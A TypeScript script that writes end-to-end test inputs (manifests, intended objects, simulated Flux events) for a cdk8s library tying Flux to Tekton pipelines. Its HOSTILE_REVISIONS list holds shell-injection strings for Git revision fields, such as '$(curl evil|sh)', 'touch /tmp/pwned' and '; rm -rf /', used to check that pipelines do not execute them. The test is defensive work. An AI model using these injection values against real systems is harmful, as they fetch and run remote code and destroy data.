/**
 * Writes the e2e suite's inputs into the folder given as the first argument, one folder per app:
 * - `manifests/`: what Flux applies (for the synth app, the committed dist/; for each example, its synth);
 * - `intended.json`: the same objects as the constructs rendered them, before any YAML was written, so the
 *   suite can tell a value that YAML parsing changed on the way to the API server;
 * - `events.json`: the Flux events the suite posts, each with the runs `simulate` predicts for it.
 * An app of `Cluster`s is written as one such folder per cluster, `<set>-<cluster>` (`clusters-ci`, `clusters-staging`,
 * …): each holds that cluster's folder of the output, which its own Flux applies.
 */
import * as fs from 'fs';
import * as nodeModule from 'module';
import * as path from 'path';
import { App, Chart, Duration } from 'cdk8s';
import { parseAllDocuments } from 'yaml';
import {
  Cluster, CommitStatus, FluxTriggeredPipeline, GitOpsApp, GitRepository, Kustomization, Pipeline, Promotion, PromotionFailure, RunConcurrency, Task,
} from '../src';
import { writeYamlCorpus } from './yaml-corpus';
import { buildApp } from '../app/main';
import { folderOf, loadObjects } from '../src/cli/load';
import { simulateEvent } from '../src/simulate';

// The examples import the package by name, as users do: resolve it to this checkout's source.
const Module = (nodeModule as any).Module;
const resolve = Module._resolveFilename;
Module._resolveFilename = function (request: string, ...rest: any[]) {
  return resolve.call(this, request === 'cdk8s-tekton-flux' ? path.resolve(__dirname, '../src/index.ts') : request, ...rest);
};
/* eslint-disable @typescript-eslint/no-require-imports */
const { build: fleetOfClusters } = require('../examples/clusters/app');
const { build: fleetCi, SERVICES: FLEET_SERVICES } = require('../examples/fleet-ci/app');
const { build: nodeServiceCi } = require('../examples/node-service-ci/app');
const { build: ociDeployCheck } = require('../examples/oci-deploy-check/app');
const { build: promotion } = require('../examples/promotion/app');
const { build: stagingSmokeTest } = require('../examples/staging-smoke-test/app');
/* eslint-enable @typescript-eslint/no-require-imports */

const root = path.resolve(__dirname, '..');
const fixtures = path.join(root, 'test/fixtures/flux-events');

interface InputSet {
  readonly name: string;
  readonly build: (app: App) => App;
  /** Use the committed dist/ as the manifests (the synth app); else synthesize. */
  readonly committed?: string;
  /**
   * The app has `Cluster`s: write one set per cluster, `<name>-<cluster>`, each with its cluster's folder. Its events
   * are those whose `cluster` (the cluster whose Flux sends the event) is that one, as its notification-controller
   * receives them; they name the listener they reach (in another cluster) and the runs simulate predicts there.
   */
  readonly clusters?: boolean;
  readonly events: Array<{ fixture: string; patch?: (e: any) => void; listener?: string; cluster?: string }>;
}

/** A revision in every shape an attacker who can push a branch or tag could give it. */
const SHA = '4b825dc642cb6eb9a060e54bf8d69288fbee4904';
const HOSTILE_REVISIONS = [
  'main@sha1:$(curl evil|sh)',
  `main"; touch /tmp/pwned; "@sha1:${SHA}`,
  `$(touch /tmp/pwned)@sha1:${SHA}`,
  `refs/tags/v1\`id\`@sha1:${SHA}`,
  `it's@sha1:${SHA}`,
  `main@sha1:${SHA}; rm -rf /`,
  `main@sha1:${SHA.slice(0, 39)}`,
  `a..b@sha1:${SHA}`,
];
const hostile = HOSTILE_REVISIONS.map((revision) => ({
  fixture: 'gitrepository-new-artifact.json',
  listener: 'ci/flux-events',
  patch: (e: any) => { e.metadata.revision = revision; e.message = `stored artifact for revision '${revision}' $(id)`; },
}));

/**
 * Bounded history with the real Tekton Pruner: one small pipeline that keeps its last 2 runs, in a namespace
 * of its own (the pruner's ConfigMap is one per namespace).
 */
function history(app: App): App {
  const chart = new Chart(app, 'history', { namespace: 'ci-history' });
  const repo = GitRepository.fromGitRepositoryName(chart, 'repo', 'history-repo', { namespace: 'flux-system' });
  const say = new Task(chart, 'say');
  const commit = say.addParam('commit');
  say.addStep({ name: 'say', image: 'busybox:1.36', script: `#!/bin/sh\necho "built ${commit}"` });
  const pipeline = new Pipeline(chart, 'history');
  pipeline.addTask('say', { task: say });
  const trigger = new FluxTriggeredPipeline(chart, 'on-history', { source: repo, pipeline, keepRuns: 2 });
  // a second pipeline on the same events whose runs cancel superseded ones: its cancelling TaskRuns are kept to 2 too
  const cancelling = new Pipeline(chart, 'history-cancel');
  cancelling.addTask('say', { task: say });
  trigger.addPipeline('cancelling', { pipeline: cancelling, keepRuns: 2, concurrency: RunConcurrency.cancelInProgress() });
  return app;
}

/** Where the commit-status test's stand-in for GitHub's API listens (the fake kubelet runs the status steps on this machine). */
export const STATUS_API = 'http://127.0.0.1:18089';

/**
 * Commit status: a pipeline of two tasks (build, then test) whose runs report to a stand-in for GitHub's API, with
 * a link to the Tekton Dashboard, in a namespace of its own.
 */
function commitStatus(app: App): App {
  const chart = new Chart(app, 'commit-status', { namespace: 'ci-status' });
  const repo = GitRepository.fromGitRepositoryName(chart, 'repo', 'status-repo', { namespace: 'flux-system' });
  const pipeline = new Pipeline(chart, 'status');
  const step = (name: string) => {
    const task = new Task(chart, `status-${name}`);
    task.addStep({ name, image: 'busybox:1.36', script: `#!/bin/sh\necho ${name}` });
    return task;
  };
  const build = pipeline.addTask('build', { task: step('build') });
  pipeline.addTask('test', { task: step('test'), runAfter: [build] });
  new FluxTriggeredPipeline(chart, 'on-push', {
    source: repo,
    pipeline,
    status: CommitStatus.github({
      repository: 'acme/app',
      tokenSecretName: 'status-token',
      apiUrl: STATUS_API,
      runUrl: 'https://tekton.example.com/#/namespaces/{namespace}/pipelineruns/{name}',
    }),
  });
  return app;
}

/** Where TestPromotionGates serves the config repository (git's smart HTTP), on this machine: the fake kubelet runs the git steps here. */
export const GIT_SERVER = 'http://127.0.0.1:18090';

/**
 * Promotion gates: staging soaks for 5 s before its version moves on to production, and a failed verification sets
 * it back (rollback). The config repository is a bare repository the suite serves; the git steps run for real.
 */
function promotionGates(app: App): App {
  const chart = new Chart(app, 'gates', { namespace: 'ci-gates' });
  const env = (name: string) => Kustomization.fromKustomizationName(chart, `web-${name}`, `gates-${name}`, { namespace: 'flux-system' });
  const verify = new Task(chart, 'gates-verify', { description: 'Stands in for a smoke test (the fake kubelet passes or fails it)' });
  const version = verify.addParam('version');
  const environment = verify.addParam('environment');
  verify.addStep({
    name: 'probe',
    image: 'busybox:1.36',
    script: `#!/bin/sh
echo "checking ${version} in ${environment}"`,
  });
  new Promotion(chart, 'web', {
    app: 'web',
    repositoryUrl: `${GIT_SERVER}/fleet.git`,
    environments: [
      { name: 'dev', kustomization: env('dev'), path: 'envs/dev' },
      { name: 'staging', kustomization: env('staging'), path: 'envs/staging', verify, soak: Duration.seconds(5), onVerifyFailure: PromotionFailure.rollback() },
      { name: 'production', kustomization: env('production'), path: 'envs/production' },
    ],
  });
  return app;
}

const SETS: InputSet[] = [
  {
    name: 'dist',
    build: buildApp,
    committed: path.join(root, 'dist'),
    events: [{ fixture: 'gitrepository-new-artifact.json' }, { fixture: 'kustomization-reconciliation-succeeded.json' }, ...hostile],
  },
  {
    name: 'node-service-ci',
    build: nodeServiceCi,
    events: [{ fixture: 'gitrepository-new-artifact.json', patch: (e) => { e.involvedObject.name = 'web-app'; } }],
  },
  { name: 'oci-deploy-check', build: ociDeployCheck, events: [{ fixture: 'ocirepository-new-artifact.json' }] },
  { name: 'staging-smoke-test', build: stagingSmokeTest, events: [{ fixture: 'kustomization-reconciliation-succeeded.json' }] },
  {
    name: 'history',
    build: history,
    events: [{ fixture: 'gitrepository-new-artifact.json', patch: (e) => { e.involvedObject.name = 'history-repo'; } }],
  },
  {
    // twelve services on one listener: each source's event must create exactly its own pipeline's run
    name: 'fleet-ci',
    build: fleetCi,
    events: [
      ...(FLEET_SERVICES as string[]).map((service) => ({ fixture: 'gitrepository-new-artifact.json', patch: (e: any) => { e.involvedObject.name = service; } })),
      ...HOSTILE_REVISIONS.slice(0, 2).map((revision) => ({
        fixture: 'gitrepository-new-artifact.json',
        listener: 'fleet-ci/fleet',
        patch: (e: any) => { e.involvedObject.name = 'api'; e.metadata.revision = revision; },
      })),
    ],
  },
  {
    name: 'commit-status',
    build: commitStatus,
    events: [{ fixture: 'gitrepository-new-artifact.json', patch: (e) => { e.involvedObject.name = 'status-repo'; } }],
  },
  {
    name: 'promotion-gates',
    build: promotionGates,
    events: [{ fixture: 'kustomization-reconciliation-succeeded.json', patch: (e) => { e.involvedObject.name = 'gates-staging'; } }],
  },
  {
    name: 'promotion',
    build: promotion,
    events: [{ fixture: 'kustomization-reconciliation-succeeded.json', patch: (e) => { e.involvedObject.name = 'web-staging'; } }],
  },
  {
    // three clusters: staging's Kustomization flux-system/web reaches the ci cluster's listener at its external URL
    name: 'clusters',
    build: fleetOfClusters,
    clusters: true,
    events: [{
      fixture: 'kustomization-reconciliation-succeeded.json',
      cluster: 'staging',
      listener: 'ci/flux-events',
      patch: (e) => { e.involvedObject.name = 'web'; },
    }],
  },
];

function readYamlFolder(dir: string): any[] {
  return fs.readdirSync(dir).filter((f) => f.endsWith('.yaml')).sort()
    .flatMap((f) => parseAllDocuments(fs.readFileSync(path.join(dir, f), 'utf8')).map((d) => d.toJS()))
    .filter((o) => o);
}

/** The Namespaces GitOpsApp writes into a folder (`_namespaces.k8s.yaml`), as written. */
function writtenNamespaces(manifests: string): any[] {
  const file = path.join(manifests, '_namespaces.k8s.yaml');
  return fs.existsSync(file) ? parseAllDocuments(fs.readFileSync(file, 'utf8')).map((d) => d.toJS()) : [];
}

/** An app of Clusters: one set per cluster (`<set>-<cluster>`), with that cluster's folder, objects and events. */
function writeClusterSets(out: string, set: InputSet) {
  const synth = path.join(out, `${set.name}.synth`);
  set.build(new GitOpsApp({ outdir: synth })).synth();
  const app = set.build(new App({ outdir: path.join(out, `${set.name}.unused`) }));
  const clusters = app.node.findAll().filter((c): c is Cluster => c instanceof Cluster);
  // simulate follows an event from its cluster's Alert to the listener of another, over every cluster's folder
  const everything = loadObjects(synth);
  for (const cluster of clusters) {
    const name = `${set.name}-${cluster.name}`;
    const dir = path.join(out, name);
    const manifests = path.join(dir, 'manifests');
    fs.mkdirSync(dir, { recursive: true });
    fs.cpSync(path.join(synth, cluster.path), manifests, { recursive: true });
    const intended = [...app.charts.filter((c) => Cluster.of(c) === cluster).flatMap((c) => c.toJson()), ...writtenNamespaces(manifests)];
    fs.writeFileSync(path.join(dir, 'intended.json'), JSON.stringify(intended, null, 1));
    const events = set.events.filter((e) => e.cluster === cluster.name).map(({ fixture, patch, listener }) => {
      const body = JSON.parse(fs.readFileSync(path.join(fixtures, fixture), 'utf8'));
      patch?.(body);
      const result = simulateEvent(everything, body, { cluster: cluster.name, clusterOf: folderOf });
      if (result.broken.length) throw new Error(`${name}: ${fixture}: simulate finds the chain broken: ${result.broken.join('; ')}`);
      const runs = result.runs.map((r) => ({ listener: r.listener, object: r.object }));
      return { fixture, body, cluster: cluster.name, listener, runs };
    });
    fs.writeFileSync(path.join(dir, 'events.json'), JSON.stringify(events, null, 1));
    console.log(`e2e inputs: ${name}: ${readYamlFolder(manifests).length} objects, ${events.length} event(s)`);
  }
  fs.rmSync(synth, { recursive: true, force: true });
}

function main(out: string) {
  fs.rmSync(out, { recursive: true, force: true });
  for (const set of SETS) {
    if (set.clusters) {
      writeClusterSets(out, set);
      continue;
    }
    const dir = path.join(out, set.name);
    const manifests = path.join(dir, 'manifests');
    fs.mkdirSync(dir, { recursive: true });
    if (set.committed) {
      fs.cpSync(set.committed, manifests, { recursive: true });
    } else {
      set.build(new GitOpsApp({ outdir: manifests })).synth();
    }
    const app = set.build(new App({ outdir: path.join(dir, 'unused') }));
    // what GitOpsApp adds to the charts' objects (the Namespaces), as written
    const written = writtenNamespaces(manifests);
    const intended = [...app.charts.flatMap((c) => c.toJson()), ...written];
    fs.writeFileSync(path.join(dir, 'intended.json'), JSON.stringify(intended, null, 1));
    const objects = readYamlFolder(manifests);
    const events = set.events.map(({ fixture, patch, listener }) => {
      const body = JSON.parse(fs.readFileSync(path.join(fixtures, fixture), 'utf8'));
      patch?.(body);
      const result = simulateEvent(objects, body);
      if (result.broken.length) throw new Error(`${set.name}/${fixture}: simulate reports a broken chain: ${result.broken.join('; ')}`);
      const runs = result.runs.map((r) => ({ listener: r.listener, object: r.object }));
      return { fixture, body, listener: listener ?? runs[0]?.listener, runs, trace: result.trace };
    });
    fs.writeFileSync(path.join(dir, 'events.json'), JSON.stringify(events, null, 1));
    console.log(`e2e inputs: ${set.name}: ${objects.length} objects, ${events.length} event(s)`);
  }
  console.log(`e2e inputs: yaml corpus: ${writeYamlCorpus(path.join(out, 'yaml-corpus.json'))} entries`);
}

main(path.resolve(process.argv[2] ?? path.join(root, 'e2e/.work/inputs')));
